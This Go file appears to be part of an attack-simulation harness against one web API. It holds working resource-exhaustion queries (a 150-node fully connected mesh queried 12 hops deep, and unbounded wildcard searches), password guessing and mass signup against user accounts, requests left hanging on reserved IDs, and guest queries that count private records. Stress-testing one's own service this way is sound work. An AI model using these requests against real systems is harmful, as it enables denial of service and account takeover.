package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/http"
	"strings"
)

// signUpAttacker creates an account for the attackers and signs in.
func signUpAttacker(ctx context.Context, a *arena) error {
	email := fmt.Sprintf("attacker%d@example.org", rand.Int64())
	body := fmt.Sprintf(`{"email":%q,"password":%q}`, email, password)
	var session struct{ Data struct{ Token string } }
	if err := a.post(ctx, "/api/auth/signup", body, &struct{}{}); err != nil {
		return err
	}
	err := a.post(ctx, "/api/auth/login", body, &session)
	a.token = session.Data.Token
	return err
}

// concept, composition and connection return drafts of public records.
func concept(id int64, typ, value string) any {
	return map[string]any{"id": id, "categoryId": 4, "typeCharacter": typ, "characterValue": value, "accessId": 5}
}

func composition(id int64, typ string) any {
	return map[string]any{"id": id, "categoryId": 4, "typeCharacter": typ, "isComposition": true, "accessId": 5}
}

func connection(id, from, to int64, typ string) any {
	return map[string]any{"id": id, "ofTheConceptId": from, "toTheConceptId": to, "typeCharacter": typ, "orderId": 1000, "accessId": 5}
}

// writeBatch writes a batch and returns the id of its concept -1.
func (a *arena) writeBatch(ctx context.Context, concepts, connections []any) (int64, error) {
	body, err := json.Marshal(map[string]any{"concepts": concepts, "connections": connections})
	if err != nil {
		return 0, err
	}
	var written struct {
		Concepts []struct{ ID, GhostID int64 }
	}
	if err := a.post(ctx, "/api/v1/local-concepts", string(body), &written); err != nil {
		return 0, err
	}
	for _, c := range written.Concepts {
		if c.GhostID == -1 {
			return c.ID, nil
		}
	}
	return 0, errors.New("the response to a batch has no id for its first concept")
}

// meshSize is the number of concepts in the mesh. Each is connected to all others.
const meshSize = 150

// writeMesh stores a mesh, in which each further hop multiplies the number of paths by about meshSize.
func writeMesh(ctx context.Context, a *arena) error {
	if err := signUpAttacker(ctx, a); err != nil {
		return err
	}
	var concepts, connections []any
	for i := range int64(meshSize) {
		concepts = append(concepts, composition(-1-i, "the_mesh"))
		for j := range int64(meshSize) {
			if i != j {
				connections = append(connections, connection(-1000-i*meshSize-j, -1-i, -1-j, "the_mesh_s_link"))
			}
		}
	}
	id, err := a.writeBatch(ctx, concepts, connections)
	a.ids = []int64{id}
	return err
}

// explosiveQuery sends a query that follows every path of the mesh, or one that searches the values of all notes.
func explosiveQuery(ctx context.Context, a *attacker) {
	body := ""
	switch (a.number + a.round) % 3 {
	case 0:
		body = `{"type":"the_mesh","inpage":10000,"freeschemaQueries":[` + strings.Repeat(`{"typeConnection":"the_mesh_s_link","freeschemaQueries":[`, 12) +
			strings.Repeat(`]}`, 12) + `]}`
	case 1:
		body = `{"type":"the_mesh","inpage":10000,"countAll":true,"freeschemaQueries":[{"typeConnection":"the_mesh_s_link","name":"n","depth":100}]}`
	default:
		body = `{"type":"the_note","inpage":1000,"countAll":true,"freeschemaQueries":[{"typeConnection":"self","name":"s"}],` +
			`"filters":[{"name":"f","operateon":"s","logicoperator":"like","search":"%e%o%zz%"}],"filterLogic":"f"}`
	}
	a.send(ctx, attackRequest{"POST", "/api/freeschema-query", jsonHeader(), strings.NewReader(body)})
}

// guessPassword tries a password for an honest user. Every fourth attacker creates accounts instead.
func guessPassword(ctx context.Context, a *attacker) {
	path, email := "/api/auth/login", fmt.Sprintf("user%d@example.org", rand.IntN(20))
	if a.number%4 == 3 {
		path, email = "/api/auth/signup", fmt.Sprintf("many%d@example.org", rand.Int64())
	}
	body := fmt.Sprintf(`{"email":%q,"password":"guess %d"}`, email, rand.Int64())
	a.send(ctx, attackRequest{"POST", path, jsonHeader(), strings.NewReader(body)})
}

// reserveIDs reserves ids for concepts that never arrive.
func reserveIDs(ctx context.Context, a *arena) error {
	if err := signUpAttacker(ctx, a); err != nil {
		return err
	}
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, a.target+"/api/get_reserved_ids", nil)
	if err != nil {
		return err
	}
	r.Header.Set("Authorization", "Bearer "+a.token)
	response, err := a.prepare.Do(r)
	if err != nil {
		return err
	}
	defer response.Body.Close()
	return json.NewDecoder(response.Body).Decode(&a.ids)
}

// waitForConcept connects a concept that never arrives, so that the request waits.
func waitForConcept(ctx context.Context, a *attacker) {
	body := fmt.Sprintf(`[{"id":0,"ofTheConceptId":%d,"toTheConceptId":%d,"typeCharacter":"the_note_s_tag","orderId":1000}]`,
		a.ids[a.number%len(a.ids)], a.ids[0])
	a.send(ctx, attackRequest{"POST", "/api/create_the_connection", jsonHeader(), strings.NewReader(body)})
}

// hiddenNotes is the number of private records of the type that honest users list; hiddenBatchSize of them are written in one batch.
const (
	hiddenNotes     = 30_000
	hiddenBatchSize = 3_000
)

func writeHiddenNotes(ctx context.Context, a *arena) error {
	if err := signUpAttacker(ctx, a); err != nil {
		return err
	}
	for range hiddenNotes / hiddenBatchSize {
		var concepts []any
		for i := range int64(hiddenBatchSize) {
			concepts = append(concepts, map[string]any{"id": -1 - i, "categoryId": 4, "typeCharacter": "the_note", "isComposition": true})
		}
		if _, err := a.writeBatch(ctx, concepts, nil); err != nil {
			return err
		}
	}
	a.token = "" // the attackers are guests, who may not read the notes
	return nil
}

// countHiddenNotes sends requests that count and list notes that the attacker may not read.
func countHiddenNotes(ctx context.Context, a *attacker) {
	switch (a.number + a.round) % 3 {
	case 0:
		a.send(ctx, attackRequest{"POST", "/api/freeschema-query", jsonHeader(), strings.NewReader(`{"type":"the_note","countAll":true,"inpage":10}`)})
	case 1:
		a.send(ctx, attackRequest{"GET", "/api/search-compositions?type=the_note&search=zzz&inpage=10&page=1", nil, nil})
	default:
		a.send(ctx, attackRequest{"POST", "/api/freeschema-query", jsonHeader(), strings.NewReader(
			`{"type":"the_note","inpage":10,"order":"ASC","freeschemaQueries":[{"typeConnection":"the_note_s_tag","aggregate":"group"}]}`)})
	}
}
